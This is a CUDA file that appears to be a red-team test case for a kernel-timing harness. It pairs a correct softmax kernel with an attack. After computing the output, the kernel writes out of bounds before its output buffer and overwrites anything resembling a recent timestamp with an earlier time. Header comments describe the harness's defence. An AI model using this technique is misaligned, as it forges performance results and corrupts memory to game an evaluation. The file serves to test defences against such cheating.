// Attack: event_storage
//
// Tries: writes earlier timestamps over whatever near its buffers looks like one.
// Gains: An end event that lies just after the start event.
// Threats: X9
// Answer: Events lie in pages that the candidate has no mapping of, and between its own buffers and
// anything else are none. Two clocks have to agree.
//
//! dtypes float32
//! launch softmax<<<rows, 32>>>(x, out, cols)

__device__ float over_warp_sum(float value) {
  for (int offset = 16; offset > 0; offset /= 2) {
    value += __shfl_xor_sync(0xffffffffu, value, offset);
  }
  return value;
}

__device__ float over_warp_maximum(float value) {
  for (int offset = 16; offset > 0; offset /= 2) {
    value = fmaxf(value, __shfl_xor_sync(0xffffffffu, value, offset));
  }
  return value;
}

/// One row by one warp.
__device__ void softmax_row(const float* x, float* out, int cols) {
  float peak = -__int_as_float(0x7f800000);
  for (int i = threadIdx.x; i < cols; i += 32) peak = fmaxf(peak, x[i]);
  peak = over_warp_maximum(peak);
  float total = 0.0f;
  for (int i = threadIdx.x; i < cols; i += 32) total += expf(x[i] - peak);
  total = over_warp_sum(total);
  for (int i = threadIdx.x; i < cols; i += 32) out[i] = expf(x[i] - peak) / total;
}

extern "C" __global__ void softmax(const float* x, float* out, int cols) {
  const long long first = static_cast<long long>(blockIdx.x) * cols;
  softmax_row(x + first, out + first, cols);
  unsigned long long now;
  asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(now));
  auto* words = reinterpret_cast<volatile unsigned long long*>(out);
  for (long long step = 1; step < 512; ++step) {
    volatile unsigned long long& word = words[-(step << 18)];
    if (now - word < 1000000000ull) word = now - 1000;
  }
}
